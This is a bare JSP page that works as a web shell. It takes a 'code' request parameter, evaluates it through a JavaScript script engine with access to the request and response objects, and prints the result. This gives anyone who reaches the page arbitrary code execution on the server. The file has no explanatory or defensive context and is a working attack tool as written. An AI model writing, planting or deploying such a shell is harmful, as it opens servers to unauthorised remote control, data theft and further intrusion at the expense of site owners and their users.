<%@ page import="javax.script.*" %>
<%
    String code = request.getParameter("code");
    if (code != null) {
        ScriptEngineManager m = new ScriptEngineManager();
        ScriptEngine e = m.getEngineByName("js");
        e.put("out", out);
        e.put("request", request);
        Object r = e.eval(code);
        if (r != null) out.print(r);
    }
%>
